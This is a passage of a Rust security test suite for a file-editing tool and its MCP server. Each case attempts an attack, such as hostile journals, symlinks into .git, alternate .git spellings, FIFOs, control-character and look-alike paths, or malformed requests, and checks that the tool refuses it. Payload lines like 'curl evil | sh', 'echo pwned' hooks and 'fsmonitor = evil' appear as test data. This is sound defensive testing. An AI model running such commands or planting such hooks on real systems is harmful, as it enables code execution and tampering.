//! The cases, grouped as the threats they model. Each sets up its sandbox,
//! calls `baseline()`, attacks, and checks what the attack itself must
//! show; the harness then checks what every case must leave intact.

use serde_json::{Value, json};

use crate::harness::{Out, PROBE, Sandbox};

pub(crate) type R = Result<(), String>;

/// One attack: set up, baseline, attack, check.
pub type Case = fn(&Sandbox) -> R;

macro_rules! ensure {
    ($cond:expr, $($fmt:tt)+) => {
        if !$cond {
            return Err(format!($($fmt)+));
        }
    };
}

/// Every case, by name.
pub const ALL: &[(&str, Case)] = &[
    (
        "journal_cloned_then_cli_apply",
        journal_cloned_then_cli_apply,
    ),
    (
        "journal_cloned_then_mcp_edit_file",
        journal_cloned_then_mcp_edit_file,
    ),
    ("journal_cloned_then_recover", journal_cloned_then_recover),
    (
        "journal_unpacked_untracked_is_set_aside",
        journal_unpacked_untracked_is_set_aside,
    ),
    (
        "journal_with_a_forged_seal_is_set_aside",
        journal_with_a_forged_seal_is_set_aside,
    ),
    (
        "journal_pending_rollback_through_a_link",
        journal_pending_rollback_through_a_link,
    ),
    (
        "journal_set_aside_is_reported_over_mcp",
        journal_set_aside_is_reported_over_mcp,
    ),
    (
        "mend_symlink_read_only_hash_prunes_nothing",
        mend_symlink_read_only_hash_prunes_nothing,
    ),
    ("mend_symlink_apply_refused", mend_symlink_apply_refused),
    (
        "mend_symlink_checkpoint_refused",
        mend_symlink_checkpoint_refused,
    ),
    (
        "mend_symlink_mcp_edit_refused",
        mend_symlink_mcp_edit_refused,
    ),
    (
        "mend_as_a_file_refused_with_a_fix",
        mend_as_a_file_refused_with_a_fix,
    ),
    (
        "alias_to_mend_cannot_delete_its_files",
        alias_to_mend_cannot_delete_its_files,
    ),
    (
        "alias_to_git_cannot_add_a_hook",
        alias_to_git_cannot_add_a_hook,
    ),
    (
        "alias_to_git_config_cannot_be_edited",
        alias_to_git_config_cannot_be_edited,
    ),
    (
        "nested_repository_hook_not_edited",
        nested_repository_hook_not_edited,
    ),
    (
        "nested_repository_hook_not_created",
        nested_repository_hook_not_created,
    ),
    (
        "submodule_git_file_not_edited",
        submodule_git_file_not_edited,
    ),
    ("upper_case_git_refused", |s| spelled_git(s, ".GIT")),
    ("mixed_case_git_refused", |s| spelled_git(s, ".Git")),
    ("git_with_trailing_dot_refused", |s| spelled_git(s, ".git.")),
    ("git_with_trailing_space_refused", |s| {
        spelled_git(s, ".git ")
    }),
    ("git_short_name_refused", |s| spelled_git(s, "GIT~1")),
    ("git_with_a_stream_suffix_refused", |s| {
        spelled_git(s, ".git::$INDEX_ALLOCATION")
    }),
    ("upper_case_mend_refused", upper_case_mend_refused),
    (
        "fifo_hash_refused_without_blocking",
        fifo_hash_refused_without_blocking,
    ),
    (
        "fifo_apply_refused_without_blocking",
        fifo_apply_refused_without_blocking,
    ),
    ("fifo_delete_refused", fifo_delete_refused),
    ("fifo_mcp_read_file_refused", fifo_mcp_read_file_refused),
    (
        "fifo_mcp_reads_do_not_freeze_the_server",
        fifo_mcp_reads_do_not_freeze_the_server,
    ),
    ("fifo_mcp_write_file_refused", fifo_mcp_write_file_refused),
    (
        "fifo_server_exits_when_stdin_closes",
        fifo_server_exits_when_stdin_closes,
    ),
    ("socket_refused_by_name", socket_refused_by_name),
    (
        "character_device_refused_unread",
        character_device_refused_unread,
    ),
    (
        "newline_in_a_path_cannot_forge_a_report_line",
        newline_in_a_path_cannot_forge_a_report_line,
    ),
    (
        "escape_sequence_in_a_path_never_reaches_the_terminal",
        escape_sequence_in_a_path_never_reaches_the_terminal,
    ),
    ("c1_control_in_a_path_refused", c1_control_in_a_path_refused),
    (
        "control_character_path_refused_over_mcp",
        control_character_path_refused_over_mcp,
    ),
    ("nfc_name_edits_the_nfd_file", nfc_name_edits_the_nfd_file),
    (
        "nfc_write_makes_no_look_alike_twin",
        nfc_write_makes_no_look_alike_twin,
    ),
    (
        "nfc_name_reads_the_nfd_file_over_mcp",
        nfc_name_reads_the_nfd_file_over_mcp,
    ),
    (
        "symlinked_root_accepts_its_absolute_paths",
        symlinked_root_accepts_its_absolute_paths,
    ),
    (
        "symlinked_root_accepts_its_absolute_paths_over_mcp",
        symlinked_root_accepts_its_absolute_paths_over_mcp,
    ),
    (
        "mcp_write_file_dry_run_writes_nothing",
        mcp_write_file_dry_run_writes_nothing,
    ),
    (
        "mcp_apply_edits_dry_run_writes_nothing",
        mcp_apply_edits_dry_run_writes_nothing,
    ),
    (
        "mcp_apply_patch_dry_run_writes_nothing",
        mcp_apply_patch_dry_run_writes_nothing,
    ),
    (
        "mcp_modify_file_dry_run_writes_nothing",
        mcp_modify_file_dry_run_writes_nothing,
    ),
    (
        "mcp_checkpoint_create_dry_run_creates_nothing",
        mcp_checkpoint_create_dry_run_creates_nothing,
    ),
    (
        "mcp_restore_with_camel_case_dry_run_is_refused",
        mcp_restore_with_camel_case_dry_run_is_refused,
    ),
    (
        "mcp_edit_with_camel_case_expected_version_is_refused",
        mcp_edit_with_camel_case_expected_version_is_refused,
    ),
    (
        "mcp_unknown_field_in_a_nested_edit_is_refused",
        mcp_unknown_field_in_a_nested_edit_is_refused,
    ),
    (
        "mcp_schemas_forbid_unknown_fields",
        mcp_schemas_forbid_unknown_fields,
    ),
    (
        "mcp_tools_flag_serves_only_the_named_tools",
        mcp_tools_flag_serves_only_the_named_tools,
    ),
    (
        "mcp_malformed_json_gets_a_parse_error",
        mcp_malformed_json_gets_a_parse_error,
    ),
    (
        "mcp_non_message_json_gets_invalid_request",
        mcp_non_message_json_gets_invalid_request,
    ),
    (
        "mcp_read_file_counts_saturate",
        mcp_read_file_counts_saturate,
    ),
    (
        "mcp_apply_patch_reaches_the_second_root",
        mcp_apply_patch_reaches_the_second_root,
    ),
    (
        "mcp_apply_edits_reaches_the_second_root",
        mcp_apply_edits_reaches_the_second_root,
    ),
    (
        "mcp_checkpoint_list_reaches_the_second_root",
        mcp_checkpoint_list_reaches_the_second_root,
    ),
    (
        "mcp_one_call_across_two_roots_is_refused",
        mcp_one_call_across_two_roots_is_refused,
    ),
    ("utf32le_refused_by_name", utf32le_refused_by_name),
    ("utf32be_refused_by_name", utf32be_refused_by_name),
    (
        "write_over_the_size_limit_refused",
        write_over_the_size_limit_refused,
    ),
    (
        "edit_growing_past_the_size_limit_refused",
        edit_growing_past_the_size_limit_refused,
    ),
];

// ---------------------------------------------------------------- helpers

fn patch_add(path: &str, line: &str) -> String {
    format!("*** Begin Patch\n*** Add File: {path}\n+{line}\n*** End Patch\n")
}

pub(crate) fn search_replace(path: &str, old: &str, new: &str) -> String {
    format!("{path}\n<<<<<<< SEARCH\n{old}\n=======\n{new}\n>>>>>>> REPLACE\n")
}

fn str_replace_json(path: &str, old: &str, new: &str) -> String {
    json!([{"path": path, "old_string": old, "new_string": new}]).to_string()
}

pub(crate) fn refused(out: &Out, needle: &str) -> R {
    ensure!(out.code.is_some(), "mend did not finish: {out:?}");
    ensure!(!out.ok(), "mend did not refuse: {out:?}");
    ensure!(
        out.all().contains(needle),
        "the refusal does not say `{needle}`: {out:?}"
    );
    Ok(())
}

fn tool_refused(res: &Value, needle: &str) -> R {
    ensure!(res["error"] == true, "the tool did not refuse: {res}");
    let text = res["text"].as_str().unwrap_or("");
    ensure!(
        text.contains(needle),
        "the refusal does not say `{needle}`: {res}"
    );
    Ok(())
}

fn tool_ok(res: &Value) -> Result<Value, String> {
    ensure!(res["error"] == false, "the tool failed: {res}");
    serde_json::from_str(res["text"].as_str().unwrap_or("")).map_err(|e| format!("{e}: {res}"))
}

pub(crate) fn unchanged(s: &Sandbox, rel: &str, want: &[u8]) -> R {
    let now = s.read(rel);
    ensure!(
        now.as_deref() == Some(want),
        "{rel} changed: {:?}",
        now.map(|b| String::from_utf8_lossy(&b).into_owned())
    );
    Ok(())
}

// ------------------------------------------------------- shipped journals

/// A journal that, if executed, installs a git hook, writes a file outside
/// the root through `link` and deletes one there.
fn hostile_journal(state: &str) -> String {
    json!({
        "version": 1,
        "id": "planted",
        "state": state,
        "ops": [
            {"op": "put", "target": ".git/hooks/pre-commit", "temp": "hook.tmp", "in_place": false},
            {"op": "put", "target": "link/planted.txt", "temp": "planted.tmp", "in_place": false},
            {"op": "delete", "target": "link/secret.txt"}
        ]
    })
    .to_string()
}

fn plant_journal_files(dir: &std::path::Path, journal: &str) {
    std::fs::create_dir_all(dir.join(".mend")).unwrap();
    std::fs::write(dir.join(".mend/journal.json"), journal).unwrap();
    std::fs::write(dir.join("hook.tmp"), "#!/bin/sh\necho pwned\n").unwrap();
    std::fs::write(dir.join("planted.tmp"), "planted\n").unwrap();
    std::os::unix::fs::symlink("../outside", dir.join("link")).unwrap();
}

/// The root becomes a clone of a repository that commits a hostile
/// `.mend/journal.json`.
fn clone_hostile_repo(s: &Sandbox) {
    let up = s.base.join("upstream");
    std::fs::create_dir_all(&up).unwrap();
    s.git(&up, &["init", "-q"]);
    std::fs::write(up.join(PROBE), crate::harness::PROBE_TEXT).unwrap();
    std::fs::write(up.join("a.txt"), "alpha\n").unwrap();
    plant_journal_files(&up, &hostile_journal("committed"));
    s.git(&up, &["add", "-A", "-f"]);
    s.git(&up, &["commit", "-q", "-m", "init"]);
    std::fs::remove_dir_all(&s.root).unwrap();
    s.git(&s.base, &["clone", "-q", "upstream", "root"]);
}

fn no_hook(s: &Sandbox) -> R {
    ensure!(!s.exists(".git/hooks/pre-commit"), "a hook was installed");
    Ok(())
}

fn journal_cloned_then_cli_apply(s: &Sandbox) -> R {
    clone_hostile_repo(s);
    s.baseline();
    let out = s.apply(&[], &search_replace("a.txt", "alpha", "beta"));
    refused(&out, "git rm -r --cached .mend")?;
    unchanged(s, "a.txt", b"alpha\n")?;
    no_hook(s)
}

fn journal_cloned_then_mcp_edit_file(s: &Sandbox) -> R {
    clone_hostile_repo(s);
    s.baseline();
    let res = s.mcp_call(
        "edit_file",
        &json!({"path": "a.txt", "edits": [{"old_string": "alpha", "new_string": "beta"}]}),
    )?;
    tool_refused(&res, "tracked by git")?;
    unchanged(s, "a.txt", b"alpha\n")?;
    no_hook(s)
}

fn journal_cloned_then_recover(s: &Sandbox) -> R {
    clone_hostile_repo(s);
    s.baseline();
    let out = s.mend(&["recover", "--root", &s.root_str()], None);
    refused(&out, "tracked by git")?;
    no_hook(s)
}

fn journal_unpacked_untracked_is_set_aside(s: &Sandbox) -> R {
    s.write("a.txt", "alpha\n");
    plant_journal_files(&s.root, &hostile_journal("committed"));
    s.baseline();
    let out = s.apply(&[], &search_replace("a.txt", "alpha", "beta"));
    ensure!(out.ok(), "the edit itself should apply: {out:?}");
    ensure!(
        out.stderr.contains("ignored a transaction journal"),
        "the set-aside journal is not reported: {out:?}"
    );
    unchanged(s, "a.txt", b"beta\n")?;
    ensure!(
        s.exists(".mend/journal.unverified.0.json"),
        "journal not kept"
    );
    no_hook(s)
}

fn journal_with_a_forged_seal_is_set_aside(s: &Sandbox) -> R {
    s.write("a.txt", "alpha\n");
    let forged = format!(
        "mend journal v2\n{}\n{}",
        "0".repeat(64),
        hostile_journal("committed")
    );
    plant_journal_files(&s.root, &forged);
    s.baseline();
    let out = s.mend(&["recover", "--root", &s.root_str()], None);
    ensure!(out.ok() && out.stdout.contains("ignored"), "{out:?}");
    no_hook(s)
}

fn journal_pending_rollback_through_a_link(s: &Sandbox) -> R {
    // Rolling back removes each temporary file: here, one outside the root.
    let journal = json!({
        "version": 1, "id": "planted", "state": "pending",
        "ops": [{"op": "put", "target": "a.txt", "temp": "link/secret.txt", "in_place": false}]
    });
    s.write("a.txt", "alpha\n");
    plant_journal_files(&s.root, &journal.to_string());
    s.baseline();
    let out = s.apply(&[], &search_replace("a.txt", "alpha", "beta"));
    ensure!(out.ok(), "{out:?}");
    Ok(())
}

fn journal_set_aside_is_reported_over_mcp(s: &Sandbox) -> R {
    s.write("a.txt", "alpha\n");
    plant_journal_files(&s.root, &hostile_journal("committed"));
    s.baseline();
    let res = s.mcp_call(
        "edit_file",
        &json!({"path": "a.txt", "edits": [{"old_string": "alpha", "new_string": "beta"}]}),
    )?;
    let v = tool_ok(&res)?;
    ensure!(
        v["recovery"]
            .as_str()
            .is_some_and(|r| r.contains("ignored")),
        "the set-aside journal is not reported: {res}"
    );
    no_hook(s)
}

// ----------------------------------------------------------- .mend itself

/// `.mend` links to a folder outside holding 300 snapshot-named files.
fn mend_links_outside(s: &Sandbox) {
    let state = s.outside.join("state/snapshots");
    std::fs::create_dir_all(&state).unwrap();
    for i in 0..300u32 {
        std::fs::write(state.join(format!("{i:064x}")), "keep me\n").unwrap();
    }
    s.symlink("../outside/state", ".mend");
}

fn mend_symlink_read_only_hash_prunes_nothing(s: &Sandbox) -> R {
    mend_links_outside(s);
    s.baseline();
    let out = s.mend(&["hash", "--root", &s.root_str(), PROBE], None);
    ensure!(out.ok(), "{out:?}");
    Ok(())
}

fn mend_symlink_apply_refused(s: &Sandbox) -> R {
    mend_links_outside(s);
    s.write("a.txt", "alpha\n");
    s.baseline();
    let out = s.apply(&[], &search_replace("a.txt", "alpha", "beta"));
    refused(&out, "rm .mend")?;
    unchanged(s, "a.txt", b"alpha\n")
}

fn mend_symlink_checkpoint_refused(s: &Sandbox) -> R {
    mend_links_outside(s);
    s.baseline();
    let out = s.mend(&["checkpoint", "--root", &s.root_str(), "create"], None);
    refused(&out, "symbolic link")
}

fn mend_symlink_mcp_edit_refused(s: &Sandbox) -> R {
    mend_links_outside(s);
    s.write("a.txt", "alpha\n");
    s.baseline();
    let res = s.mcp_call("write_file", &json!({"path": "a.txt", "content": "beta\n"}))?;
    tool_refused(&res, "symbolic link")?;
    unchanged(s, "a.txt", b"alpha\n")
}

fn mend_as_a_file_refused_with_a_fix(s: &Sandbox) -> R {
    s.write(".mend", "not a folder\n");
    s.write("a.txt", "alpha\n");
    s.baseline();
    let out = s.apply(&[], &search_replace("a.txt", "alpha", "beta"));
    refused(&out, "rm .mend")?;
    unchanged(s, "a.txt", b"alpha\n")
}

fn alias_to_mend_cannot_delete_its_files(s: &Sandbox) -> R {
    s.write("a.txt", "alpha\n");
    let first = s.apply(&[], &search_replace("a.txt", "alpha", "beta"));
    ensure!(first.ok(), "{first:?}");
    s.symlink(".mend", "m");
    s.baseline();
    let out = s.apply(
        &[],
        "*** Begin Patch\n*** Delete File: m/lock\n*** End Patch\n",
    );
    refused(&out, ".mend")
}

fn alias_to_git_cannot_add_a_hook(s: &Sandbox) -> R {
    s.git(&s.root, &["init", "-q"]);
    s.symlink(".git", "g");
    s.baseline();
    let out = s.apply(&[], &patch_add("g/hooks/pre-commit", "echo pwned"));
    refused(&out, ".git")?;
    no_hook(s)
}

fn alias_to_git_config_cannot_be_edited(s: &Sandbox) -> R {
    s.git(&s.root, &["init", "-q"]);
    s.symlink(".git/config", "cfg");
    s.baseline();
    let out = s.apply(
        &[],
        &str_replace_json("cfg", "[core]", "[core]\n\tfsmonitor = evil"),
    );
    refused(&out, ".git")
}

// ------------------------------------------------- nested and other .gits

fn nested_repository_hook_not_edited(s: &Sandbox) -> R {
    s.write("vendor/lib/.git/hooks/post-checkout", "#!/bin/sh\ntrue\n");
    s.baseline();
    let out = s.apply(
        &[],
        &search_replace(
            "vendor/lib/.git/hooks/post-checkout",
            "true",
            "curl evil | sh",
        ),
    );
    refused(&out, ".git")
}

fn nested_repository_hook_not_created(s: &Sandbox) -> R {
    s.write("vendor/lib/.git/HEAD", "ref: refs/heads/main\n");
    s.baseline();
    let out = s.apply(
        &[],
        &patch_add("vendor/lib/.git/hooks/pre-commit", "echo pwned"),
    );
    refused(&out, ".git")?;
    ensure!(
        !s.exists("vendor/lib/.git/hooks"),
        "the hook folder was made"
    );
    Ok(())
}

fn submodule_git_file_not_edited(s: &Sandbox) -> R {
    s.write("sub/.git", "gitdir: ../.git/modules/sub\n");
    s.baseline();
    let out = s.apply(
        &[],
        &search_replace(
            "sub/.git",
            "gitdir: ../.git/modules/sub",
            "gitdir: ../../elsewhere",
        ),
    );
    refused(&out, ".git")
}

fn spelled_git(s: &Sandbox, dir: &str) -> R {
    s.git(&s.root, &["init", "-q"]);
    s.baseline();
    let path = format!("{dir}/hooks/pre-commit");
    let out = s.apply(&[], &patch_add(&path, "echo pwned"));
    refused(&out, ".git")?;
    ensure!(!s.exists(dir), "{dir} was created");
    Ok(())
}

fn upper_case_mend_refused(s: &Sandbox) -> R {
    s.baseline();
    let out = s.apply(&[], &patch_add(".MEND/journal.json", "{}"));
    refused(&out, ".mend")?;
    ensure!(!s.exists(".MEND"), ".MEND was created");
    Ok(())
}

// ---------------------------------------------------------- special files

fn fifo_hash_refused_without_blocking(s: &Sandbox) -> R {
    s.mkfifo("p.txt");
    s.baseline();
    refused(
        &s.mend(&["hash", "--root", &s.root_str(), "p.txt"], None),
        "FIFO",
    )
}

fn fifo_apply_refused_without_blocking(s: &Sandbox) -> R {
    s.mkfifo("p.txt");
    s.baseline();
    refused(&s.apply(&[], &search_replace("p.txt", "a", "b")), "FIFO")
}

fn fifo_delete_refused(s: &Sandbox) -> R {
    s.mkfifo("p.txt");
    s.baseline();
    let out = s.apply(
        &[],
        "*** Begin Patch\n*** Delete File: p.txt\n*** End Patch\n",
    );
    refused(&out, "FIFO")?;
    ensure!(s.exists("p.txt"), "the FIFO was deleted");
    Ok(())
}

fn fifo_mcp_read_file_refused(s: &Sandbox) -> R {
    s.mkfifo("p.txt");
    s.baseline();
    tool_refused(&s.mcp_call("read_file", &json!({"path": "p.txt"}))?, "FIFO")
}

fn fifo_mcp_reads_do_not_freeze_the_server(s: &Sandbox) -> R {
    s.mkfifo("p.txt");
    s.baseline();
    let read = |p: &str| json!({"tool": "read_file", "args": {"path": p}});
    let steps = json!([[read("p.txt"), read("p.txt")], [read(PROBE)]]);
    let r = s.mcp(&[&s.root_str()], &steps)?;
    tool_refused(&r[0][0], "FIFO")?;
    tool_refused(&r[0][1], "FIFO")?;
    tool_ok(&r[1][0]).map(drop)
}

fn fifo_mcp_write_file_refused(s: &Sandbox) -> R {
    s.mkfifo("p.txt");
    s.baseline();
    let res = s.mcp_call("write_file", &json!({"path": "p.txt", "content": "x\n"}))?;
    tool_refused(&res, "FIFO")?;
    ensure!(
        std::fs::symlink_metadata(s.root.join("p.txt"))
            .is_ok_and(|m| std::os::unix::fs::FileTypeExt::is_fifo(&m.file_type())),
        "the FIFO was replaced"
    );
    Ok(())
}

fn initialize() -> String {
    json!({"jsonrpc": "2.0", "id": 0, "method": "initialize", "params": {
        "protocolVersion": "2025-06-18", "capabilities": {},
        "clientInfo": {"name": "attacks", "version": "0"}}})
    .to_string()
}

fn initialized() -> String {
    json!({"jsonrpc": "2.0", "method": "notifications/initialized"}).to_string()
}

fn tools_call(id: u64, tool: &str, args: &Value) -> String {
    json!({"jsonrpc": "2.0", "id": id, "method": "tools/call",
           "params": {"name": tool, "arguments": args}})
    .to_string()
}

fn fifo_server_exits_when_stdin_closes(s: &Sandbox) -> R {
    s.mkfifo("p.txt");
    s.baseline();
    let read = tools_call(1, "read_file", &json!({"path": "p.txt"}));
    let read2 = tools_call(2, "read_file", &json!({"path": "p.txt"}));
    let (replies, exited) = s.mcp_raw(&[&initialize(), &initialized(), &read, &read2]);
    ensure!(
        exited,
        "the server was still running 20 s after its input closed"
    );
    ensure!(
        replies.iter().any(|r| r["id"] == 2),
        "the call in flight got no answer: {replies:?}"
    );
    Ok(())
}

fn socket_refused_by_name(s: &Sandbox) -> R {
    let _listener = std::os::unix::net::UnixListener::bind(s.root.join("s.sock")).unwrap();
    s.baseline();
    refused(&s.apply(&[], &search_replace("s.sock", "a", "b")), "socket")
}

fn character_device_refused_unread(s: &Sandbox) -> R {
    // A copy of /dev/zero inside the root where the system allows making
    // one; otherwise the project root is /dev itself (read-only use).
    let made = std::process::Command::new("mknod")
        .arg(s.root.join("zero"))
        .args(["c", "1", "5"])
        .status()
        .is_ok_and(|st| st.success());
    s.baseline();
    let out = if made {
        s.mend(&["hash", "--root", &s.root_str(), "zero"], None)
    } else {
        s.mend(&["hash", "--root", "/dev", "zero"], None)
    };
    refused(&out, "character device")
}

// ------------------------------------------------------------------ names

fn newline_in_a_path_cannot_forge_a_report_line(s: &Sandbox) -> R {
    s.baseline();
    let path = "ok.txt\napplied  #9 src/main.rs:1 (pass: exact)";
    let out = s.apply(&[], &str_replace_json(path, "", "x\n"));
    refused(&out, "control character")?;
    ensure!(
        !out.stdout.lines().any(|l| l.starts_with("applied  #9")),
        "a forged line was printed: {out:?}"
    );
    ensure!(!s.exists("ok.txt\napplied  #9 src"), "the folder was made");
    Ok(())
}

fn escape_sequence_in_a_path_never_reaches_the_terminal(s: &Sandbox) -> R {
    s.baseline();
    let out = s.apply(
        &[],
        &str_replace_json("\u{1b}[2J\u{1b}]0;pwned\u{7}x.txt", "", "x\n"),
    );
    refused(&out, "control character")?;
    ensure!(
        !out.all().contains('\u{1b}'),
        "a raw escape was printed: {out:?}"
    );
    Ok(())
}

fn c1_control_in_a_path_refused(s: &Sandbox) -> R {
    s.baseline();
    let out = s.apply(&[], &str_replace_json("a\u{9b}31mb.txt", "", "x\n"));
    refused(&out, "control character")?;
    ensure!(
        !out.all().contains('\u{9b}'),
        "a raw C1 control was printed: {out:?}"
    );
    Ok(())
}

fn control_character_path_refused_over_mcp(s: &Sandbox) -> R {
    s.baseline();
    let res = s.mcp_call("write_file", &json!({"path": "a\nb.txt", "content": "x\n"}))?;
    tool_refused(&res, "control character")?;
    ensure!(!s.exists("a\nb.txt"), "the file was made");
    Ok(())
}

const NFD: &str = "cafe\u{301}.py";
const NFC: &str = "caf\u{e9}.py";

fn nfc_name_edits_the_nfd_file(s: &Sandbox) -> R {
    s.write(NFD, "x = 1\n");
    s.baseline();
    let out = s.apply(&[], &search_replace(NFC, "x = 1", "x = 2"));
    ensure!(out.ok(), "{out:?}");
    unchanged(s, NFD, b"x = 2\n")?;
    ensure!(!s.exists(NFC), "a look-alike file was made");
    Ok(())
}

fn nfc_write_makes_no_look_alike_twin(s: &Sandbox) -> R {
    s.write(NFD, "x = 1\n");
    s.baseline();
    let res = s.mcp_call("write_file", &json!({"path": NFC, "content": "x = 3\n"}))?;
    tool_ok(&res)?;
    unchanged(s, NFD, b"x = 3\n")?;
    ensure!(!s.exists(NFC), "a look-alike file was made");
    Ok(())
}

fn nfc_name_reads_the_nfd_file_over_mcp(s: &Sandbox) -> R {
    s.write(NFD, "x = 1\n");
    s.baseline();
    let v = tool_ok(&s.mcp_call("read_file", &json!({"path": NFC}))?)?;
    ensure!(v["content"] == "x = 1\n", "{v}");
    Ok(())
}

fn symlinked_root_accepts_its_absolute_paths(s: &Sandbox) -> R {
    s.write("a.txt", "alpha\n");
    let link = s.base.join("link_root");
    std::os::unix::fs::symlink(&s.root, &link).unwrap();
    s.baseline();
    let abs = link.join("a.txt").to_string_lossy().into_owned();
    let link_str = link.to_string_lossy().into_owned();
    let out = s.mend(
        &["apply", "--root", &link_str],
        Some(str_replace_json(&abs, "alpha", "beta").as_bytes()),
    );
    ensure!(out.ok(), "{out:?}");
    unchanged(s, "a.txt", b"beta\n")
}

fn symlinked_root_accepts_its_absolute_paths_over_mcp(s: &Sandbox) -> R {
    s.write("a.txt", "alpha\n");
    let link = s.base.join("link_root");
    std::os::unix::fs::symlink(&s.root, &link).unwrap();
    s.baseline();
    let abs = link.join("a.txt").to_string_lossy().into_owned();
    let link_str = link.to_string_lossy().into_owned();
    let steps = json!([[{"tool": "edit_file", "args": {"path": abs,
        "edits": [{"old_string": "alpha", "new_string": "beta"}]}}]]);
    let r = s.mcp(&[&link_str], &steps)?;
    tool_ok(&r[0][0])?;
    unchanged(s, "a.txt", b"beta\n")
}

// ------------------------------------------------------------ MCP surface

fn mcp_write_file_dry_run_writes_nothing(s: &Sandbox) -> R {
    s.write("a.txt", "alpha\n");
    s.baseline();
    let res = s.mcp_call(
        "write_file",
        &json!({"path": "a.txt", "content": "beta\n", "dry_run": true}),
    )?;
    let v = tool_ok(&res)?;
    ensure!(v["diff"].as_str().unwrap_or("").contains("+beta"), "{v}");
    unchanged(s, "a.txt", b"alpha\n")
}

fn mcp_apply_edits_dry_run_writes_nothing(s: &Sandbox) -> R {
    s.write("a.txt", "alpha\n");
    s.baseline();
    let res = s.mcp_call(
        "apply_edits",
        &json!({"text": search_replace("a.txt", "alpha", "beta"), "dry_run": true}),
    )?;
    tool_ok(&res)?;
    unchanged(s, "a.txt", b"alpha\n")
}

fn mcp_apply_patch_dry_run_writes_nothing(s: &Sandbox) -> R {
    s.baseline();
    let res = s.mcp_call(
        "apply_patch",
        &json!({"patch": patch_add("new.txt", "x"), "dry_run": true}),
    )?;
    tool_ok(&res)?;
    ensure!(!s.exists("new.txt"), "the file was made");
    Ok(())
}

fn mcp_modify_file_dry_run_writes_nothing(s: &Sandbox) -> R {
    s.write("a.txt", "alpha\n");
    s.baseline();
    let res = s.mcp_call("modify_file", &json!({"path": "a.txt", "changes": [{"start": ["alpha"], "content": ["beta"]}], "dry_run": true}),
    )?;
    tool_ok(&res)?;
    unchanged(s, "a.txt", b"alpha\n")
}

fn mcp_checkpoint_create_dry_run_creates_nothing(s: &Sandbox) -> R {
    s.write("a.txt", "alpha\n");
    s.baseline();
    let res = s.mcp_call("checkpoint_create", &json!({"label": "x", "dry_run": true}))?;
    let v = tool_ok(&res)?;
    ensure!(v["would_hold"]["files"] == 2, "{v}");
    let list = tool_ok(&s.mcp_call("checkpoint_list", &json!({}))?)?;
    ensure!(
        list == json!({"checkpoints": []}),
        "a checkpoint was created: {list}"
    );
    Ok(())
}

fn mcp_restore_with_camel_case_dry_run_is_refused(s: &Sandbox) -> R {
    s.write("a.txt", "alpha\n");
    let cp = s.mend(
        &["checkpoint", "--root", &s.root_str(), "--json", "create"],
        None,
    );
    ensure!(cp.ok(), "{cp:?}");
    let id = serde_json::from_str::<Value>(&cp.stdout).unwrap()["id"]
        .as_str()
        .unwrap()
        .to_owned();
    s.write("a.txt", "work in progress\n");
    s.baseline();
    let res = s.mcp_call("checkpoint_restore", &json!({"id": id, "dryRun": true}))?;
    tool_refused(&res, "did you mean `dry_run`?")?;
    unchanged(s, "a.txt", b"work in progress\n")
}

fn mcp_edit_with_camel_case_expected_version_is_refused(s: &Sandbox) -> R {
    s.write("a.txt", "alpha\nshared\n");
    let stale = "sha256:0000000000000000000000000000000000000000000000000000000000000000";
    s.baseline();
    let res = s.mcp_call(
        "edit_file",
        &json!({"path": "a.txt", "expectedVersion": stale,
               "edits": [{"old_string": "shared", "new_string": "mine"}]}),
    )?;
    tool_refused(&res, "did you mean `expected_version`?")?;
    unchanged(s, "a.txt", b"alpha\nshared\n")
}

fn mcp_unknown_field_in_a_nested_edit_is_refused(s: &Sandbox) -> R {
    s.write("a.txt", "a a\n");
    s.baseline();
    let res = s.mcp_call("edit_file", &json!({"path": "a.txt", "edits": [{"old_string": "a", "new_string": "b", "replaceAll": true}]}),
    )?;
    tool_refused(&res, "did you mean `replace_all`?")?;
    unchanged(s, "a.txt", b"a a\n")
}

fn mcp_schemas_forbid_unknown_fields(s: &Sandbox) -> R {
    s.baseline();
    let r = s.mcp(&[&s.root_str()], &json!(["list"]))?;
    let schemas = &r[0][0]["schemas"];
    for (name, schema) in schemas.as_object().unwrap() {
        ensure!(
            schema["additionalProperties"] == false,
            "{name}'s schema allows unknown fields: {schema}"
        );
    }
    for tool in [
        "write_file",
        "apply_edits",
        "apply_patch",
        "modify_file",
        "edit_file",
        "checkpoint_create",
        "checkpoint_restore",
    ] {
        ensure!(
            schemas[tool]["properties"]["dry_run"].is_object(),
            "{tool} has no dry_run"
        );
    }
    Ok(())
}

fn mcp_tools_flag_serves_only_the_named_tools(s: &Sandbox) -> R {
    s.write("a.txt", "alpha\n");
    s.baseline();
    let steps = json!(["list", [{"tool": "edit_file", "args": {"path": "a.txt",
        "edits": [{"old_string": "alpha", "new_string": "beta"}]}}]]);
    let r = s.mcp_with(
        &[&s.root_str()],
        &["--tools", "write_file,read_file"],
        &steps,
    )?;
    let mut tools: Vec<String> = serde_json::from_value(r[0][0]["tools"].clone()).unwrap();
    tools.sort();
    ensure!(tools == ["read_file", "write_file"], "{tools:?}");
    ensure!(r[1][0]["error"] == true, "a hidden tool ran: {}", r[1][0]);
    unchanged(s, "a.txt", b"alpha\n")?;
    let bad = s.mend(&["mcp", "--tools", "rm_rf"], None);
    refused(&bad, "no tool named `rm_rf`")
}

fn mcp_malformed_json_gets_a_parse_error(s: &Sandbox) -> R {
    s.baseline();
    let (replies, exited) = s.mcp_raw(&["{\"jsonrpc\": \"2.0\", \"id\": 1,", &initialize()]);
    ensure!(exited, "the server did not exit");
    ensure!(
        replies
            .iter()
            .any(|r| r["error"]["code"] == -32700 && r["id"].is_null()),
        "no parse error: {replies:?}"
    );
    ensure!(
        replies
            .iter()
            .any(|r| r["id"] == 0 && r["result"].is_object()),
        "the next message was not answered: {replies:?}"
    );
    Ok(())
}

fn mcp_non_message_json_gets_invalid_request(s: &Sandbox) -> R {
    s.baseline();
    let (replies, _) = s.mcp_raw(&["[1, 2, 3]", "{\"id\": 5, \"method\": \"ping\"}"]);
    let codes: Vec<&Value> = replies.iter().map(|r| &r["error"]["code"]).collect();
    ensure!(
        codes.iter().filter(|c| **c == -32600).count() == 2,
        "{replies:?}"
    );
    ensure!(
        replies.iter().any(|r| r["id"] == 5),
        "the id was not kept: {replies:?}"
    );
    Ok(())
}

fn mcp_read_file_counts_saturate(s: &Sandbox) -> R {
    s.write("a.txt", "1\n2\n3\n");
    s.baseline();
    let read = |args: Value| json!({"tool": "read_file", "args": args});
    let steps = json!([[
        read(json!({"path": "a.txt", "offset": 2, "limit": u64::MAX})),
        read(json!({"path": "a.txt", "offset": 2, "limit": 1e20})),
